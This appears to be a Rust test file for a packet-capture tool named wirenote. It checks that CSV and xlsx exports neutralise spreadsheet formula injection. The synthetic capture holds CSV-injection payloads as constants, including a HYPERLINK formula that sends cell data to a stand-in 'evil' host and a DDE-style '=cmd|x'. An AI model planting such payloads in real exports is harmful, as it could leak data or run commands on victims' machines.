//! Spreadsheets without surprises: CSV injection neutralised (and `--verbatim`), the
//! `--excel` BOM, and xlsx workbooks read back by real LibreOffice (headless, a private
//! profile per run, killed after 120 s): text intact, exact epoch, `time_rel`, a
//! formula-looking URI still text, sheet names, rows across a sheet split.

mod common;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use wirenote_bench::TcpFrame;

const URI: &str = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
const HOST: &str = "=1+2";
const REASON: &str = "=SUM(A1)";
const CONTENT_TYPE: &str = "=cmd|x";
/// The first frame's time: nanoseconds that a double cannot hold beside the seconds.
const T0: (u32, u32) = (1_700_000_000, 123_456_789);

fn run(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_wirenote"))
        .args(args)
        .output()
        .unwrap()
}

fn ok(args: &[&str]) -> String {
    let out = run(args);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

/// A nanosecond pcap of one connection on port 80 with two exchanges: the first with a
/// hostile URI, Host, reason and content type, the second with a Chinese Host. Frame `i`
/// is `i * 1.000000001 s` after the first.
fn hostile_capture(dir: &Path) -> PathBuf {
    let request1 = format!("GET {URI} HTTP/1.1\r\nHost: {HOST}\r\n\r\n");
    let response1 = format!(
        "HTTP/1.1 200 {REASON}\r\nContent-Type: {CONTENT_TYPE}\r\nContent-Length: 0\r\n\r\n"
    );
    let request2 = "GET /ok HTTP/1.1\r\nHost: 实验\r\n\r\n".to_owned();
    let response2 = "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n".to_owned();
    let c = ([10, 0, 0, 1], 40000u16);
    let s = ([10, 0, 0, 2], 80u16);
    let (mut cs, mut ss) = (1000u32, 5000u32);
    let mut frames = Vec::new();
    let mut push = |from_client: bool, flags: u8, payload: &[u8], cs: &mut u32, ss: &mut u32| {
        let (src, dst, seq, ack) = if from_client {
            (c, s, *cs, *ss)
        } else {
            (s, c, *ss, *cs)
        };
        frames.push(
            TcpFrame {
                ips: (src.0, dst.0),
                ports: (src.1, dst.1),
                seq,
                ack: if flags & 0x10 != 0 { ack } else { 0 },
                flags,
                window: 65535,
                payload,
                ..TcpFrame::default()
            }
            .build(),
        );
        let advance = payload.len() as u32 + u32::from(flags & 0x03 != 0);
        if from_client {
            *cs += advance;
        } else {
            *ss += advance;
        }
    };
    push(true, 0x02, b"", &mut cs, &mut ss);
    push(false, 0x12, b"", &mut cs, &mut ss);
    push(true, 0x10, b"", &mut cs, &mut ss);
    push(true, 0x18, request1.as_bytes(), &mut cs, &mut ss);
    push(false, 0x18, response1.as_bytes(), &mut cs, &mut ss);
    push(true, 0x18, request2.as_bytes(), &mut cs, &mut ss);
    push(false, 0x18, response2.as_bytes(), &mut cs, &mut ss);
    push(true, 0x11, b"", &mut cs, &mut ss);
    push(false, 0x11, b"", &mut cs, &mut ss);
    push(true, 0x10, b"", &mut cs, &mut ss);
    // Classic pcap, nanosecond magic, Ethernet.
    let mut out = vec![
        0x4d, 0x3c, 0xb2, 0xa1, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0, 0, 1, 0, 0, 0,
    ];
    for (i, frame) in frames.iter().enumerate() {
        let nanos = u64::from(T0.1) + i as u64 * 1_000_000_001;
        let secs = u64::from(T0.0) + nanos / 1_000_000_000;
        out.extend_from_slice(&(secs as u32).to_le_bytes());
        out.extend_from_slice(&((nanos % 1_000_000_000) as u32).to_le_bytes());
        out.extend_from_slice(&(frame.len() as u32).to_le_bytes());
        out.extend_from_slice(&(frame.len() as u32).to_le_bytes());
        out.extend_from_slice(frame);
    }
    let path = dir.join("hostile.pcap");
    std::fs::write(&path, out).unwrap();
    path
}

/// Rows as header → value maps.
fn rows(text: &str) -> Vec<BTreeMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .zip(r.iter())
                .map(|(h, v)| (h.to_owned(), v.to_owned()))
                .collect()
        })
        .collect()
}

fn starts_like_a_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'])
}

/// The hostile cells come out with a leading `'` in CSV, and as they are with
/// `--verbatim`; no other cell changes (numbers never do).
#[test]
fn csv_neutralises_formula_looking_capture_text() {
    let dir = tempfile::tempdir().unwrap();
    let capture = hostile_capture(dir.path());
    let capture = capture.to_str().unwrap();
    for command in ["annotate", "http"] {
        let safe = rows(&ok(&[command, capture]));
        let verbatim = rows(&ok(&[command, capture, "--verbatim"]));
        assert_eq!(safe.len(), verbatim.len());
        let mut neutralised = 0;
        for (s, v) in safe.iter().zip(&verbatim) {
            for (key, value) in v {
                if starts_like_a_formula(value) {
                    assert_eq!(s[key], format!("'{value}"), "{command} {key}");
                    neutralised += 1;
                } else {
                    assert_eq!(&s[key], value, "{command} {key}: only formulas change");
                }
            }
            assert!(s.values().all(|c| !starts_like_a_formula(c)), "{s:?}");
        }
        let want = if command == "http" { 4 } else { 3 };
        assert_eq!(
            neutralised, want,
            "{command}: URI, Host, reason, content type"
        );
    }
    let http = rows(&ok(&["http", capture, "--verbatim"]));
    assert_eq!(
        (
            http[0]["uri"].as_str(),
            http[0]["host"].as_str(),
            http[0]["reason"].as_str(),
            http[0]["content_type"].as_str()
        ),
        (URI, HOST, REASON, CONTENT_TYPE)
    );
    // JSON Lines is always verbatim.
    let jsonl = ok(&["http", capture, "-f", "jsonl"]);
    let first: serde_json::Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
    assert_eq!(first["uri"], URI);
    assert_eq!(first["status"], 200);
}

/// `--excel` writes a BOM and CRLF; the rows are the plain CSV's, and LibreOffice reading
/// it as UTF-8 gets the header without a stray BOM and the Chinese text intact.
#[test]
fn excel_csv_has_a_bom_and_round_trips() {
    let dir = tempfile::tempdir().unwrap();
    let capture = hostile_capture(dir.path());
    let capture = capture.to_str().unwrap();
    let plain = ok(&["http", capture]);
    assert!(!plain.starts_with('\u{feff}'), "plain CSV has no BOM");
    let excel = ok(&["http", capture, "--excel"]);
    let body = excel.strip_prefix('\u{feff}').expect("a BOM");
    assert!(!body.starts_with("sep="));
    assert!(body.lines().all(|l| !l.is_empty()) && body.contains("\r\n"));
    assert_eq!(rows(body), rows(&plain));
    if !common::require("soffice") {
        return;
    }
    let path = dir.path().join("excel.csv");
    std::fs::write(&path, &excel).unwrap();
    let sheets = libreoffice_csv(
        &path,
        dir.path(),
        Some("Text - txt - csv (StarCalc):44,34,76,1"),
    );
    let back = &sheets[&"excel".to_owned()];
    assert!(back.starts_with("stream,time,"), "{back}");
    assert!(back.contains("实验"), "{back}");
}

/// Converts every sheet of `file` to CSV with LibreOffice headless (a private profile,
/// at most 120 s); returns sheet name → text. A single-sheet input's key is its stem.
fn libreoffice_csv(file: &Path, dir: &Path, infilter: Option<&str>) -> BTreeMap<String, String> {
    let out = dir.join("lo-out");
    let profile = dir.join("lo-profile");
    let mut command = Command::new("timeout");
    command.args(["-k", "5", "120", "soffice"]).arg(format!(
        "-env:UserInstallation=file://{}",
        profile.display()
    ));
    command.arg("--headless");
    if let Some(filter) = infilter {
        command.arg(format!("--infilter={filter}"));
    }
    let status = command
        .args([
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1",
            "--outdir",
        ])
        .arg(&out)
        .arg(file)
        .output()
        .unwrap();
    assert!(status.status.success(), "soffice: {status:?}");
    let stem = file.file_stem().unwrap().to_string_lossy().into_owned();
    let mut sheets = BTreeMap::new();
    for entry in std::fs::read_dir(&out).unwrap() {
        let path = entry.unwrap().path();
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        let sheet = name
            .strip_prefix(&format!("{stem}-"))
            .unwrap_or(&name)
            .to_owned();
        sheets.insert(sheet, std::fs::read_to_string(&path).unwrap());
    }
    sheets
}

/// The workbook as LibreOffice reads it: sheets, text intact, the exact epoch beside the
/// date-time, `time_rel` right, the hostile URI still text (not a formula, no `'`).
#[test]
fn xlsx_reads_back_in_libreoffice() {
    if !common::require("soffice") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let capture = hostile_capture(dir.path());
    let book = dir.path().join("hostile.xlsx");
    ok(&[
        "annotate",
        capture.to_str().unwrap(),
        "-o",
        book.to_str().unwrap(),
    ]);
    let sheets = libreoffice_csv(&book, dir.path(), None);
    assert_eq!(
        sheets.keys().collect::<Vec<_>>(),
        ["About", "Connections", "HTTP", "Packets"]
    );
    let packets = rows(&sheets["Packets"]);
    let csv = rows(&ok(&["annotate", capture.to_str().unwrap(), "--verbatim"]));
    assert_eq!(packets.len(), csv.len());
    for (i, (x, c)) in packets.iter().zip(&csv).enumerate() {
        assert_eq!(x["time_epoch"], c["time"], "the exact epoch, 9 decimals");
        let rel: f64 = x["time_rel"].parse().unwrap();
        assert!(
            (rel - i as f64 * 1.000000001).abs() < 1e-12,
            "time_rel {rel} on frame {}",
            i + 1
        );
        assert_eq!(x["info"], c["info"], "→ and text intact");
        assert_eq!(x["frame"], c["frame"]);
    }
    assert_eq!(packets[0]["time_epoch"], "1700000000.123456789");
    assert!(packets[0]["time"].starts_with("2023-11-14 22:13:20.123"));
    assert!(packets[0]["info"].contains('→'));
    let http = rows(&sheets["HTTP"]);
    assert_eq!(http[0]["uri"], URI, "text, never a formula");
    assert_eq!(http[0]["host"], HOST);
    assert_eq!(http[1]["host"], "实验");
    assert_eq!(http[0]["status"], "200");
    let conns = rows(&sheets["Connections"]);
    assert_eq!(conns.len(), 1);
    assert_eq!(conns[0]["time_rel"], "0");
    assert!(sheets["About"].contains("hostile.pcap"));
    assert!(sheets["About"].contains("frames,10"));
}

/// Past the rows a sheet holds (made small here), the table goes on in `Packets (2)`…;
/// every row is there once, and the About sheet says so. `-e` and `--stream` choose the
/// columns and rows.
#[test]
fn xlsx_splits_sheets_and_chooses_columns() {
    if !common::require("soffice") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let capture = hostile_capture(dir.path());
    let book = dir.path().join("split.xlsx");
    let out = Command::new(env!("CARGO_BIN_EXE_wirenote"))
        .env("WIRENOTE_TEST_XLSX_ROWS_PER_SHEET", "4")
        .args(["annotate", capture.to_str().unwrap(), "-o"])
        .arg(&book)
        .args(["-e", "frame,time_rel", "-e", "http.uri", "--stream", "0"])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let sheets = libreoffice_csv(&book, dir.path(), None);
    assert_eq!(
        sheets.keys().collect::<Vec<_>>(),
        [
            "About",
            "Connections",
            "HTTP",
            "Packets",
            "Packets (2)",
            "Packets (3)",
            "Packets (4)"
        ]
    );
    let mut frames = Vec::new();
    for name in ["Packets", "Packets (2)", "Packets (3)", "Packets (4)"] {
        let part = rows(&sheets[name]);
        assert!(part.len() <= 3, "{name}: 3 rows under the header");
        for row in part {
            assert_eq!(row.keys().collect::<Vec<_>>(), ["frame", "time_rel"]);
            frames.push(row["frame"].parse::<u64>().unwrap());
        }
    }
    assert_eq!(frames, (1..=10).collect::<Vec<_>>());
    let http = rows(&sheets["HTTP"]);
    assert_eq!(
        http[0].keys().collect::<Vec<_>>(),
        ["time_rel", "uri"],
        "a bare name applies to every table that has it"
    );
    assert!(
        sheets["About"].contains("Packets (4): 1 rows"),
        "{}",
        sheets["About"]
    );
    assert!(sheets["About"].contains("no row was left out"));
    // --stream keeps only connection 1's rows: none here.
    let none = ok(&["annotate", capture.to_str().unwrap(), "--stream", "1"]);
    assert_eq!(none.lines().count(), 1, "the header only");
}
